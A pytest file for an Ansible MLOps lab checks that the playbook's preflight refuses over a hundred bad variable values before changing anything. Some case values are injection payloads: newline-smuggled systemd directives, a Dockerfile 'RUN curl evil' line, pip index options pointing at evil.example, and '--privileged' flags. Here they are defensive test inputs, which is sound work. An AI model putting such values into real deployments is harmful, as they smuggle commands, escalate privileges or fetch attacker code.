"""Bad input is refused before any change, by site.yml's preflight, with a message naming the variable.

One ansible-playbook run checks every case: each case is a host of its own (a local connection,
nothing reaches a VM), with mlops_preflight_only so that no host can get past the checks. A case
passes when its host is refused (reported FAILED), the reason names the variable, and the host
changed nothing. A host with valid input is checked too, so the suite cannot pass by refusing
everything. Cases that need a VM's state (a downgrade) are in the Molecule scenarios.
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent

# (case, host variables, what the reason must name[, groups])
CASES = [
    ("mlflow-port-is-s3-port", {"mlops_mlflow_port": 9000}, ["mlops_mlflow_port", "s3_api_port"]),
    ("jupyter-port-is-mlflow-port", {"mlops_jupyter_port": 5000}, ["mlops_jupyter_port"]),
    ("model-on-mlflow-port", {"mlflow_served_models": [{"name": "m", "port": 5000}]}, ["mlflow_served_models m"]),
    ("model-on-jupyter-port", {"mlflow_served_models": [{"name": "m", "port": 8888}]}, ["mlflow_served_models m"]),
    (
        "internal-port-is-public",
        {"mlops_internal_ports": {"mlflow": 5000, "jupyter": 18888, "minio_console": 19001}},
        ["mlops_internal_ports.mlflow"],
    ),
    ("privileged-port", {"mlops_mlflow_port": 80}, ["mlops_mlflow_port", "privileged"]),
    ("bucket-double-dot", {"mlops_artifact_bucket": "a..b"}, ["mlops_artifact_bucket"]),
    ("bucket-ip-address", {"mlops_artifact_bucket": "192.168.1.10"}, ["mlops_artifact_bucket"]),
    ("bucket-xn-prefix", {"mlops_artifact_bucket": "xn--abc"}, ["mlops_artifact_bucket"]),
    ("bucket-upper-case", {"mlops_artifact_bucket": "Bad_Bucket"}, ["mlops_artifact_bucket"]),
    ("artifact-prefix-space", {"mlflow_artifact_prefix": "a b"}, ["mlflow_artifact_prefix"]),
    ("lab-name-space", {"mlops_lab_names": ["a b"]}, ["mlops_lab_names"]),
    ("allowed-hosts-space", {"mlflow_allowed_hosts": ["a b"]}, ["mlflow_allowed_hosts"]),
    ("mlflow-host-set", {"mlflow_host": "0.0.0.0 --workers 64"}, ["mlflow_host", "mlops_tls_enabled"]),
    ("mlflow-port-set", {"mlflow_port": 5050}, ["mlflow_port", "mlops_mlflow_port"]),
    (
        "allowed-hosts-extra-set",
        {"mlflow_allowed_hosts_extra": ["vm.example.org"]},
        ["mlflow_allowed_hosts_extra", "mlops_lab_names"],
    ),
    ("model-server-host-injection", {"mlflow_model_server_host": "0.0.0.0 --x"}, ["mlflow_model_server_host"]),
    ("s3-root-user-newline", {"s3_root_user": "admin\nEVIL=1"}, ["s3_root_user"]),
    ("s3-root-password-short", {"s3_root_password": "short"}, ["s3_root_password"]),
    ("s3-server-unknown", {"s3_server": "rustfs"}, ["s3_server"]),
    ("s3-memory-words", {"s3_memory": "1 GB"}, ["s3_memory"]),
    ("mlflow-home-root", {"mlflow_home": "/"}, ["mlflow_home"]),
    ("mlflow-venv-usr", {"mlflow_venv": "/usr/local"}, ["mlflow_venv"]),
    ("jupyter-work-dir-etc", {"jupyter_work_dir": "/etc"}, ["jupyter_work_dir"]),
    ("postgres-volume-dotdot", {"postgres_data_volume": "/var/lib/../../etc"}, ["postgres_data_volume"]),
    ("postgres-bind-ipv6", {"postgres_bind_address": "::1"}, ["postgres_bind_address"]),
    ("postgres-port-range", {"postgres_port": 70000}, ["postgres_port"]),
    ("postgres-port-words", {"postgres_port": "five-four-three-two"}, ["postgres_port"]),
    ("postgres-user-superuser", {"postgres_mlflow_user": "postgres"}, ["postgres_mlflow_user"]),
    ("postgres-password-short", {"postgres_password": "short"}, ["postgres_password"]),
    ("docker-user-missing", {"docker_users": ["a-typo-user"]}, ["docker_users", "a-typo-user"]),
    ("docker-users-string", {"docker_users": "alice"}, ["docker_users", "must be a list"]),
    ("extra-packages-string", {"base_extra_packages": "htop"}, ["base_extra_packages", "must be a list"]),
    ("package-name-option", {"base_extra_packages": ["-o APT::x"]}, ["base_extra_packages"]),
    ("docker-log-size", {"docker_log_max_size": "10 MB"}, ["docker_log_max_size"]),
    ("docker-mirror-http", {"docker_registry_mirrors": ["http://mirror.example.org"]}, ["docker_registry_mirrors"]),
    (
        "docker-repository-http",
        {"docker_upstream_repository_url": "http://download.example.org/linux"},
        ["docker_upstream_repository_url"],
    ),
    (
        "docker-archive-missing",
        {"docker_image_archives": [{"name": "x:1", "archive": "/nonexistent/x.tar"}]},
        ["docker_image_archives", "/nonexistent/x.tar"],
    ),
    (
        "docker-vm-archive-missing",
        {"docker_image_archives": [{"name": "x:1", "vm_archive": "/nonexistent/on-vm.tar"}]},
        ["docker_image_archives", "/nonexistent/on-vm.tar", "not on the VM"],
    ),
    (
        "docker-archive-no-path",
        {"docker_image_archives": [{"name": "x:1"}]},
        ["docker_image_archives", "x:1", "exactly one of archive"],
    ),
    ("apt-proxy-ftp", {"base_apt_proxy": "ftp://10.0.0.5:3142"}, ["base_apt_proxy"]),
    ("ca-certificate-missing", {"base_ca_certificates": ["/nonexistent/ca.pem"]}, ["base_ca_certificates"]),
    (
        "mlflow-extra-packages-option",
        {"mlflow_extra_packages": ["--extra-index-url http://evil.example"]},
        ["mlflow_extra_packages"],
    ),
    (
        "jupyter-extra-packages-url",
        {"jupyter_extra_packages": ["pkg @ http://evil.example/pkg.whl"]},
        ["jupyter_extra_packages"],
    ),
    (
        "served-models-duplicate",
        {"mlflow_served_models": [{"name": "m", "port": 5002}, {"name": "m", "port": 5003}]},
        ["mlflow_served_models"],
    ),
    (
        "served-models-bad-name",
        {"mlflow_served_models": [{"name": "bad name", "port": 5002}]},
        ["mlflow_served_models"],
    ),
    (
        "served-models-unknown-key",
        {"mlflow_served_models": [{"name": "m", "port": 5002, "gpu": True}]},
        ["mlflow_served_models[0]", "gpu"],
    ),
    ("served-models-dict", {"mlflow_served_models": {"name": "m"}}, ["mlflow_served_models", "must be a list"]),
    ("mlflow-workers-many", {"mlflow_workers": 10000}, ["mlflow_workers"]),
    ("model-server-workers-zero", {"mlflow_model_server_workers": 0}, ["mlflow_model_server_workers"]),
    ("mlflow-version-short", {"mlflow_version": "3.17"}, ["mlflow_version"]),
    ("mlflow-version-float", {"mlflow_version": 3.17}, ["mlflow_version", "must be a string"]),
    ("mlflow-memory-words", {"mlflow_memory_max": "lots"}, ["mlflow_memory_max"]),
    ("auth-permission-unknown", {"mlflow_auth_default_permission": "ALL"}, ["mlflow_auth_default_permission"]),
    ("tls-string", {"mlops_tls_enabled": "false"}, ["mlops_tls_enabled", "true or false"]),
    ("auth-string", {"mlops_auth_enabled": "no"}, ["mlops_auth_enabled", "true or false"]),
    ("student-user-space", {"mlops_student_user": "bad user"}, ["mlops_student_user"]),
    ("lab-names-string", {"mlops_lab_names": "vm.example.org"}, ["mlops_lab_names", "must be a list"]),
    ("lab-address-space", {"mlops_lab_address": "a b"}, ["mlops_lab_address"]),
    ("firewall-port-range", {"mlops_firewall_allowed": [{"port": 99999}]}, ["mlops_firewall_allowed"]),
    (
        "firewall-from-string",
        {"mlops_firewall_allowed": [{"port": 22, "from": "10.0.0.1"}]},
        ["mlops_firewall_allowed[0].from", "must be a list"],
    ),
    (
        "firewall-set",
        {"firewall_allowed_tcp_ports": [{"port": 22}]},
        ["firewall_allowed_tcp_ports", "mlops_firewall_allowed"],
    ),
    ("jupyter-token-short", {"jupyter_token": "short"}, ["jupyter_token"]),
    ("jupyter-port-set", {"jupyter_port": 9999}, ["jupyter_port", "mlops_jupyter_port"]),
    ("proxy-certificate-without-key", {"proxy_certificate": str(ROOT / "README.md")}, ["proxy_certificate"]),
    ("proxy-certificate-days", {"proxy_certificate_days": 1000}, ["proxy_certificate_days"]),
    ("ca-permitted-wildcard", {"proxy_ca_permitted_names": ["*.example.org"]}, ["proxy_ca_permitted_names"]),
    ("jupyter-pids-limit-tiny", {"jupyter_pids_limit": 10}, ["jupyter_pids_limit"]),
    ("jupyter-cpus-negative", {"jupyter_cpus": -1}, ["jupyter_cpus"]),
    ("journal-size-lower-case", {"base_journal_max_use": "500m"}, ["base_journal_max_use"]),
    ("notebooks-internet-string", {"mlops_notebooks_internet": "no"}, ["mlops_notebooks_internet"]),
    (
        "console-port-is-jupyter-port",
        {"mlops_minio_console_public": True, "mlops_minio_console_port": 8888},
        ["mlops_minio_console_port"],
    ),
    ("tracking-without-data-host", {}, ["mlops_data_host"], ["mlops_tracking"]),
    ("disk-too-small", {"base_min_free_gb": 100000}, ["base_min_free_gb", "GB free on"]),
    ("backup-keep-zero", {"backup_keep": 0}, ["backup_keep"]),
    ("backup-reserve-negative", {"backup_reserve_mb": -1}, ["backup_reserve_mb", "0-10000000"]),
    ("backup-schedule-injection", {"backup_timer_schedule": "daily\nExecStartPre=/bin/sh"}, ["backup_timer_schedule"]),
    ("backup-offsite-not-s3", {"backup_offsite_url": "https://bucket.example.org/x"}, ["backup_offsite_url"]),
    ("backup-offsite-bad-bucket", {"backup_offsite_url": "s3://Bad_Bucket/x"}, ["backup_offsite_url"]),
    ("backup-offsite-no-login", {"backup_offsite_url": "s3://class-backups/x"}, ["backup_offsite_access_key"]),
    (
        "backup-offsite-endpoint-ftp",
        {
            "backup_offsite_url": "s3://class-backups/x",
            "backup_offsite_endpoint": "ftp://10.0.0.5",
            "backup_offsite_access_key": "k",
            "backup_offsite_secret_key": "s",
        },
        ["backup_offsite_endpoint"],
    ),
    ("backup-wired", {"backup_bucket": "other"}, ["backup_bucket", "mlops_artifact_bucket"]),
    ("gc-age-words", {"mlflow_gc_older_than": "30 days"}, ["mlflow_gc_older_than"]),
    ("gc-schedule-newline", {"mlflow_gc_schedule": "daily\nUser=root"}, ["mlflow_gc_schedule"]),
    ("dump-keep-zero", {"mlflow_db_backup_keep": 0}, ["mlflow_db_backup_keep"]),
    ("jupyter-memory-words", {"jupyter_memory": "half"}, ["jupyter_memory"]),
    # Issue 22's classes. A trailing newline, which Python's $ lets through:
    ("bucket-newline", {"mlops_artifact_bucket": "mlflows3\n"}, ["mlops_artifact_bucket"]),
    ("log-size-newline", {"docker_log_max_size": "10m\n"}, ["docker_log_max_size"]),
    ("apt-proxy-newline", {"base_apt_proxy": "http://10.0.0.5:3142\n"}, ["base_apt_proxy"]),
    ("postgres-password-newline", {"postgres_mlflow_password": "abcdefghijkl\n"}, ["postgres_mlflow_password"]),
    ("s3-password-newline", {"s3_root_password": "abcdefghijkl\n"}, ["s3_root_password"]),
    # Values of the right form that their consumer refuses:
    ("jupyter-memory-below-docker-minimum", {"jupyter_memory": "4m"}, ["jupyter_memory", "6m"]),
    ("s3-memory-below-docker-minimum", {"s3_memory": "1k"}, ["s3_memory"]),
    ("mlflow-memory-too-small", {"mlflow_memory_max": "512M"}, ["mlflow_memory_max"]),
    ("gc-schedule-systemd-refuses", {"mlflow_gc_schedule": "Mon..Fri 25:00"}, ["mlflow_gc_schedule", "systemd"]),
    (
        "backup-schedule-systemd-refuses",
        {"backup_timer_schedule": "*-*-32 03:00"},
        ["backup_timer_schedule", "systemd"],
    ),
    (
        "proxy-certificate-not-pem",
        {"proxy_certificate": str(ROOT / "README.md"), "proxy_certificate_key": str(ROOT / "README.md")},
        ["proxy_certificate", "PEM"],
    ),
    ("ca-certificate-not-pem", {"base_ca_certificates": [str(ROOT / "README.md")]}, ["base_ca_certificates", "PEM"]),
    ("ca-name-too-long", {"proxy_ca_name": "x" * 65}, ["proxy_ca_name", "64"]),
    ("artifact-prefix-too-long", {"mlflow_artifact_prefix": "a/" * 200 + "a"}, ["mlflow_artifact_prefix", "256"]),
    ("gc-age-mlflow-refuses", {"mlflow_gc_older_than": "1.2.3d"}, ["mlflow_gc_older_than"]),
    ("alias-reserved-for-versions", {"mlflow_served_models": [{"name": "m", "alias": "v2"}]}, ["aliases"]),
    # Types: digits outside ASCII, a non-number where a number is wanted.
    ("port-non-ascii-digits", {"postgres_port": "\uff15\uff14\uff13\uff12"}, ["postgres_port", "ASCII"]),
    ("free-disk-not-a-number", {"base_min_free_gb": "lots"}, ["base_min_free_gb", "a number"]),
    # An image reference that would become a second line of the Jupyter image's Dockerfile.
    ("image-newline", {"jupyter_image": "quay.io/jupyter/scipy-notebook:x\nRUN curl evil"}, ["jupyter_image"]),
    ("postgres-image-space", {"postgres_image": "postgres:17 --privileged"}, ["postgres_image"]),
    # Names the system already has.
    ("service-name-system-unit", {"mlflow_service_name": "apt-daily"}, ["mlflow_service_name", "already exists"]),
    ("mlflow-user-root", {"mlflow_user": "root"}, ["mlflow_user"]),
    ("model-server-user-system", {"mlflow_model_server_user": "www-data"}, ["mlflow_model_server_user"]),
    (
        "containers-same-name",
        {"jupyter_container_name": "postgres"},
        ["jupyter_container_name", "postgres_container_name"],
    ),
    # The refusal names the variable the user set, not the one a role receives.
    ("mlflow-port-out-of-range", {"mlops_mlflow_port": 65536}, ["mlops_mlflow_port"]),
    ("notebooks-dir-missing", {"mlops_notebooks_dir": "/nonexistent/notebooks"}, ["mlops_notebooks_dir"]),
    ("s3-image-newline", {"s3_image": "minio:1\n"}, ["s3_image"]),
    # Variables nothing reads: a typo, a renamed variable.
    ("unknown-typo", {"mlfow_workers": 3}, ["mlfow_workers", "did you mean mlflow_workers?"]),
    ("unknown-renamed", {"minio_root_user": "admin"}, ["minio_root_user", "renamed: s3_root_user"]),
    (
        "unknown-renamed-bind",
        {"minio_api_bind_address": "10.0.0.10"},
        ["minio_api_bind_address", "s3_api_bind_address"],
    ),
    ("unknown-lab-setting", {"mlops_tls": False}, ["mlops_tls", "mlops_tls_enabled"]),
    (
        "cors-origins-set",
        {"mlflow_cors_allowed_origins": ["https://evil.example.org"]},
        ["mlflow_cors_allowed_origins", "mlops_lab_names"],
    ),
    ("admin-password-newline", {"mlflow_admin_password": "a-long-password\nsecond-line"}, ["mlflow_admin_password"]),
    ("admin-password-non-ascii", {"mlflow_admin_password": "pässwörter-lang-genug"}, ["mlflow_admin_password"]),
    ("admin-password-spaces", {"mlflow_admin_password": " padded-password "}, ["mlflow_admin_password"]),
    ("upload-size-words", {"mlflow_max_upload_size": "4 GB"}, ["mlflow_max_upload_size"]),
    ("disk-reserve-words", {"mlflow_disk_reserve": "lots"}, ["mlflow_disk_reserve"]),
    ("login-failures-zero", {"mlflow_auth_failures_per_minute": 0}, ["mlflow_auth_failures_per_minute"]),
    (
        "class-student-name-upper",
        {"mlops_class_students": [{"name": "Alice"}]},
        ["mlops_class_students (names)", "Alice"],
    ),
    (
        "class-team-clashes-with-a-student",
        {"mlops_class_students": [{"name": "red"}, {"name": "bob", "team": "red"}]},
        ["mlops_class_students", "clash", "red"],
    ),
    (
        "class-student-is-lab-login",
        {"mlops_class_students": [{"name": "student"}]},
        ["mlops_class_students", "student"],
    ),
    (
        "class-team-is-class",
        {"mlops_class_students": [{"name": "bob", "team": "class"}]},
        ["mlops_class_students", "class"],
    ),
    ("class-students-string", {"mlops_class_students": "alice, bob"}, ["mlops_class_students", "must be a list"]),
    (
        "class-without-logins",
        {"mlops_class_students": [{"name": "alice"}], "mlops_auth_enabled": False},
        ["mlops_class_students", "mlops_auth_enabled"],
    ),
    (
        "class-on-a-data-vm",
        {"mlops_class_students": [{"name": "alice"}]},
        ["mlops_class_students", "whole-lab"],
        ["mlops_data"],
    ),
    (
        "class-jupyterhub-port-is-mlflow-port",
        {"mlops_class_students": [{"name": "alice"}], "mlops_jupyterhub_port": 5000},
        ["mlops_jupyterhub_port"],
    ),
    (
        "class-assistant-upper-case",
        {"mlops_class_students": [{"name": "alice"}], "mlops_class_assistants": ["TA"]},
        ["mlops_class_assistants", "lower-case"],
    ),
    (
        "jupyterhub-users-set-directly",
        {"jupyterhub_users": [{"name": "alice", "password": "a-password-123"}]},
        ["jupyterhub_users", "mlops_class_students"],
    ),
    (
        "workspaces-set-directly",
        {"mlflow_workspaces": [{"name": "class"}]},
        ["mlflow_workspaces", "mlops_class_students"],
    ),
]
VALID = "valid-input"


def playbook_command(inventory: Path, playbook: str, *args: str) -> list[str]:
    """ansible-playbook -i INVENTORY <one of the repository's playbooks> ARGS, as a user types it."""
    return [str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(inventory), str(ROOT / playbook), *args]


def ansible_playbook(inventory: Path, playbook: str, *args: str, env: dict | None = None, timeout: int = 120):
    """Run one of the repository's playbooks as a user would; the finished process."""
    return subprocess.run(  # noqa: S603 - our own playbook
        playbook_command(inventory, playbook, *args),
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=timeout,
        env=env or {**os.environ, "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"), "ANSIBLE_NOCOLOR": "1"},
    )


def shared_facts(work: Path, hosts: list[str], env: dict) -> dict:
    """Gather this machine's facts once for every case (each case is this machine); the settings
    that make the cases read them from the fact cache instead of gathering their own.

    Gathering them per host was 34 s of the suite's 184 s. If a newer Ansible names its cache
    files otherwise, each host gathers its own facts again, as before: slower, not wrong.
    """
    cache = work / "facts"
    settings = {
        "ANSIBLE_CACHE_PLUGIN": "jsonfile",
        "ANSIBLE_CACHE_PLUGIN_CONNECTION": str(cache),
        "ANSIBLE_CACHE_PLUGIN_TIMEOUT": "3600",
        "ANSIBLE_GATHERING": "smart",
    }
    (work / "gather.yml").write_text("- {hosts: all, gather_facts: true, tasks: []}\n")
    run = ansible_playbook(
        Path(f"{VALID},"),
        str(work / "gather.yml"),
        "-c",
        "local",
        "-e",
        f"ansible_python_interpreter={sys.executable}",
        env=env | settings,
    )
    assert run.returncode == 0, run.stdout[-2000:]
    for gathered in cache.glob(f"*{VALID}"):
        for host in set(hosts) - {VALID}:
            (cache / (gathered.name[: -len(VALID)] + host)).write_bytes(gathered.read_bytes())
    return settings


def summarize(output: dict) -> dict:
    """From the json callback's output: each refused host's reason, the hosts provisioned, the
    changes per host (the report's roster aside) and the stats."""
    reasons, provisioned, changed = {}, set(), {}
    for play in output["plays"]:
        # The report writes the roster on the controller, run once: it counts on the first host.
        report = play["play"]["name"].startswith("Report")
        for task in play["tasks"]:
            for host, result in task["hosts"].items():
                if result.get("changed") and not report:
                    changed[host] = changed.get(host, 0) + 1
            if task["task"]["name"] == "Keep the reason for the report (on one line, for the roster)":
                reasons |= {host: result["ansible_facts"]["lab_failure"] for host, result in task["hosts"].items()}
            if task["task"]["name"] == "Provision":
                provisioned |= set(task["hosts"])
    return {"reasons": reasons, "stats": output["stats"], "provisioned": provisioned, "changed": changed}


class SuiteRun:
    """site.yml's preflight over every case, one host per case, in one ansible-playbook run started
    in the background (about 200 s alone, most of pytest's time): tests/conftest.py starts it once
    the tests are collected, so the other tests run beside it, and its own tests go last."""

    def __init__(self):
        self.work = Path(tempfile.mkdtemp(prefix="mlops-bad-inputs-"))
        self.started = time.monotonic()
        self._results: dict | None = None
        local = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable}
        groups: dict[str, dict] = {
            "mlops": {"hosts": {VALID: dict(local)}},
            "mlops_data": {"hosts": {}},
            "mlops_tracking": {"hosts": {}},
        }
        for case in CASES:
            name, variables, _names, *where = case
            for group in where[0] if where else ["mlops"]:
                groups[group]["hosts"][name] = {**local, **variables}
        (self.work / "inventory.yml").write_text(yaml.safe_dump({"all": {"children": groups}}))
        env = {
            **os.environ,
            "ANSIBLE_STDOUT_CALLBACK": "json",
            "ANSIBLE_FORKS": "40",
            "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"),
            # Every case is a local host, which ansible.cfg's Mitogen leaves to Ansible's connection,
            # and its strategy costs more per task and host than linear here: 562 s against 336 s for
            # this run of 131 hosts (both beside a CI run). It checks inputs, not how tasks travel.
            "ANSIBLE_STRATEGY": "linear",
            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        }
        env |= shared_facts(self.work, [name for group in groups.values() for name in group["hosts"]], env)
        settings = {
            "mlops_preflight_only": True,
            "mlops_credentials_dir": str(self.work / "credentials"),
            "mlops_handouts_dir": str(self.work / "handouts"),
        }
        self.stdout, self.stderr = (open(self.work / name, "w+") for name in ("stdout", "stderr"))  # noqa: SIM115
        self.process = subprocess.Popen(  # noqa: S603 - our own playbook
            playbook_command(self.work / "inventory.yml", "site.yml", "-e", json.dumps(settings)),
            stdout=self.stdout,
            stderr=self.stderr,
            text=True,
            cwd=ROOT,
            env=env,
        )

    def results(self) -> dict:
        """Wait for the run (600 s from its start at most); what each host's checks said."""
        if self._results is None:
            rc = self.process.wait(timeout=max(1, 600 - (time.monotonic() - self.started)))
            self.stdout.seek(0)
            self.stderr.seek(0)
            stdout, stderr = self.stdout.read(), self.stderr.read()
            self._results = {"rc": rc, "stderr": stderr, **summarize(json.loads(stdout[stdout.index("{") :]))}
        return self._results

    def stop(self):
        """End the run if no test waited for it; remove its files."""
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self.stdout.close()
        self.stderr.close()
        shutil.rmtree(self.work, ignore_errors=True)


SUITE_RUN = pytest.StashKey[SuiteRun]()


@pytest.fixture(scope="session")
def suite(request) -> dict:
    """The suite's run, which tests/conftest.py started for every collected test that reads it."""
    return request.config.stash[SUITE_RUN].results()


def test_the_suite_has_enough_cases():
    assert len(CASES) >= 50


def test_valid_input_passes_the_checks(suite):
    assert VALID not in suite["reasons"], suite["reasons"].get(VALID)
    # Not rescued: its checks passed (the report's closing failure, run once, counts on every host).
    assert suite["stats"][VALID]["rescued"] == 0 and suite["changed"].get(VALID, 0) == 0
    assert suite["rc"] != 0  # the other hosts were refused


@pytest.mark.parametrize("case", CASES, ids=[case[0] for case in CASES])
def test_bad_input_is_refused_before_any_change(suite, case):
    name, _variables, named, *_ = case
    reason = suite["reasons"].get(name, f"not refused: {suite['stats'].get(name)}")
    for word in named:
        assert word in reason, reason
    assert suite["changed"].get(name, 0) == 0, f"{name} changed something"
    assert name not in suite["provisioned"]


def test_restore_without_a_backup_file_stops_before_anything(tmp_path):
    (tmp_path / "inventory.yml").write_text(
        yaml.safe_dump({"all": {"children": {"mlops": {"hosts": {"vm1": {"ansible_connection": "local"}}}}}})
    )
    run = ansible_playbook(
        tmp_path / "inventory.yml", "playbooks/restore.yml", "-e", "backup_file=/nonexistent/backup.tar"
    )
    assert run.returncode != 0
    assert "backup_file /nonexistent/backup.tar is not a file on the controller" in run.stdout
    assert "Check, then provision" not in run.stdout  # site.yml never started


@pytest.mark.parametrize(
    ("backup_file", "named"),
    [
        ("s3://class-backups/x/vm1/20261201T030000Z.tar.age", "backup_offsite_reader_access_key"),
        ("s3://class-backups/x/vm9/20261201T030000Z.tar.age", "no key for vm9"),
    ],
)
def test_an_offsite_restore_without_its_logins_or_key_stops_before_anything(tmp_path, backup_file, named):
    (tmp_path / "inventory.yml").write_text(
        yaml.safe_dump({"all": {"children": {"mlops": {"hosts": {"vm1": {"ansible_connection": "local"}}}}}})
    )
    settings = {"backup_file": backup_file, "mlops_credentials_dir": str(tmp_path / "credentials")}
    if "vm9" in backup_file:
        settings |= {"backup_offsite_reader_access_key": "instructor", "backup_offsite_reader_secret_key": "s"}
    run = ansible_playbook(tmp_path / "inventory.yml", "playbooks/restore.yml", "-e", json.dumps(settings))
    assert run.returncode != 0
    assert named in run.stdout, run.stdout[-2000:]
    assert "Check, then provision" not in run.stdout  # site.yml never started


def test_an_inventory_without_lab_hosts_says_so_in_one_line(tmp_path):
    (tmp_path / "inventory.yml").write_text(
        yaml.safe_dump({"all": {"hosts": {"somewhere": {"ansible_connection": "local"}}}})
    )
    run = ansible_playbook(tmp_path / "inventory.yml", "site.yml")
    assert run.returncode != 0
    assert "No host in group mlops" in run.stdout and "inventory/example.yml" in run.stdout
    assert "report_rows" not in run.stdout + run.stderr


def test_a_groups_vars_in_the_inventory_file_reach_the_lab(tmp_path):
    """The lab's settings are role defaults: a group's vars: in an inventory file win over them."""
    group = {"hosts": {"vm1": {"ansible_connection": "local", "ansible_python_interpreter": sys.executable}}}
    group["vars"] = {"mlops_jupyter_port": 5000}  # the MLflow port: refused when it is seen
    (tmp_path / "inventory.yml").write_text(yaml.safe_dump({"all": {"children": {"mlops": group}}}))
    settings = {"mlops_preflight_only": True, "mlops_credentials_dir": str(tmp_path / "credentials")}
    run = ansible_playbook(
        tmp_path / "inventory.yml", "site.yml", "-e", json.dumps(settings | {"mlops_handouts_dir": str(tmp_path)})
    )
    assert run.returncode != 0
    assert "FAILED vm1" in run.stdout and "mlops_jupyter_port" in run.stdout, run.stdout[-2000:]


# The mlflow role used alone (site.yml wires mlflow_workspaces from mlops_class_students): its own
# preflight refuses bad workspaces, each case a play of one run on this machine.
ROLE_WORKSPACE_CASES = [
    (
        {"mlflow_workspaces_enabled": False, "mlflow_workspaces": [{"name": "class"}]},
        "but mlflow_workspaces_enabled is false",
    ),
    ({"mlflow_workspaces": [{"name": "Class A"}]}, "mlflow_workspaces (names) must be"),
    ({"mlflow_workspaces": [{"name": "api"}]}, "mlflow_workspaces (names) must be"),
    ({"mlflow_workspaces": [{"name": "alice"}, {"name": "alice"}]}, "names a workspace more than once"),
    ({"mlflow_workspaces": [{"name": "alice", "users": ["bob"]}]}, 'members that are not logins: ["bob"]'),
    ({"mlflow_workspaces": [{"name": "alice", "users": ["alice"]}], "mlflow_auth_enabled": False}, "need it true"),
    ({"mlflow_version": "3.15.2"}, "needs mlflow_version 3.17.2 or later"),
    ({"mlflow_workspaces": [{"name": "alice", "users": "alice"}]}, "users must be a list"),
]


def role_preflight_refusals(tmp_path: Path, role: str, inputs: dict, cases: list, valid: dict) -> list[str]:
    """Run ROLE's preflight alone on this machine, once per case (INPUTS, then the case's variables,
    each a play of one run), then with VALID; the refusals' messages, in order. The VALID play
    must pass."""
    plays = []
    for variables, _said in [*cases, (valid, "")]:
        plays.append(
            {
                "hosts": "localhost",
                "gather_facts": not plays,  # once: the roles read the machine's addresses and memory
                "ignore_errors": True,
                "vars": {"mlops_credentials_dir": str(tmp_path / "credentials")},
                "tasks": [
                    {
                        "name": "Check the role's inputs",
                        "ansible.builtin.include_role": {"name": f"mlops_vm.lab.{role}", "tasks_from": "preflight"},
                        "vars": {**inputs, **variables},
                    }
                ],
            }
        )
    (tmp_path / "cases.yml").write_text(yaml.safe_dump(plays))
    env = {**os.environ, "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"), "ANSIBLE_NOCOLOR": "1"}
    env |= {"ANSIBLE_STRATEGY": "linear", "ANSIBLE_STDOUT_CALLBACK": "json"}
    local = ["-c", "local", "-e", f"ansible_python_interpreter={sys.executable}"]
    run = ansible_playbook(Path("localhost,"), str(tmp_path / "cases.yml"), *local, env=env)
    results = json.loads(run.stdout[run.stdout.index("{") :])
    # Each play's first refusal ('' when none): what the user meets first.
    refusals = [
        next(
            (
                t["hosts"]["localhost"].get("msg", "")
                for t in play["tasks"]
                if t["hosts"].get("localhost", {}).get("failed")
            ),
            "",
        )
        for play in results["plays"]
    ]
    assert refusals[-1] == "", refusals[-1]
    return refusals[:-1]


def test_the_mlflow_role_alone_refuses_bad_workspaces_and_takes_good_ones(tmp_path):
    inputs = {
        "mlflow_db_password": "a-db-password-1",
        "mlflow_s3_access_key": "mlflow",
        "mlflow_s3_secret_key": "an-s3-password-1",
        "mlflow_auth_users": [{"username": "alice", "password": "alices-password-1"}],
        "mlflow_workspaces_enabled": True,
        "mlflow_workspaces": [],
    }
    valid = {"mlflow_workspaces": [{"name": "alice", "users": ["alice"]}, {"name": "default", "readers": ["alice"]}]}
    refusals = role_preflight_refusals(tmp_path, "mlflow", inputs, ROLE_WORKSPACE_CASES, valid)
    for (_variables, said), refusal in zip(ROLE_WORKSPACE_CASES, refusals, strict=True):
        assert said in refusal, refusal


# The jupyterhub role used alone: its preflight names the variable, the value and what is allowed.
JUPYTERHUB_USERS = [{"name": "alice", "password": "alices-password-1", "workspace": "alice"}]
ROLE_JUPYTERHUB_CASES = [
    ({"jupyterhub_users": [{"name": "Alice", "password": "a-password-123"}]}, "jupyterhub_users (names) must be"),
    ({"jupyterhub_admin_users": ["prof@uni"]}, "jupyterhub_admin_users must be"),
    ({"jupyterhub_users": [{**JUPYTERHUB_USERS[0], "workspace": "Team A"}]}, "jupyterhub_users (workspaces) must be"),
    ({"jupyterhub_admin_users": ["alice"]}, "name a login twice: alice, alice"),
    ({"jupyterhub_users": [], "jupyterhub_admin_users": []}, "nobody could log in"),
    ({"jupyterhub_hub_port": 8000}, "must differ; got 8000, 8000, 8001"),
    ({"jupyterhub_memory": "lots"}, "jupyterhub_memory"),
    ({"jupyterhub_image": ""}, "jupyterhub_image"),
    ({"jupyterhub_users": "alice"}, "option 'jupyterhub_users' is of type str"),
    ({"jupyterhub_users": [{"name": "alice"}]}, "password"),
    ({"jupyterhub_mlflow_auth_url": "127.0.0.1:5000"}, "jupyterhub_mlflow_auth_url"),
]


def test_the_jupyterhub_role_alone_refuses_bad_inputs_and_takes_good_ones(tmp_path):
    inputs = {
        "jupyterhub_users": JUPYTERHUB_USERS,
        "jupyterhub_admin_users": ["admin"],
        "jupyterhub_image": "mlops-vm/jupyter:0123456789ab",
        "jupyterhub_network": "mlops-notebooks",
    }
    refusals = role_preflight_refusals(tmp_path, "jupyterhub", inputs, ROLE_JUPYTERHUB_CASES, {})
    for (_variables, said), refusal in zip(ROLE_JUPYTERHUB_CASES, refusals, strict=True):
        assert said in refusal, refusal
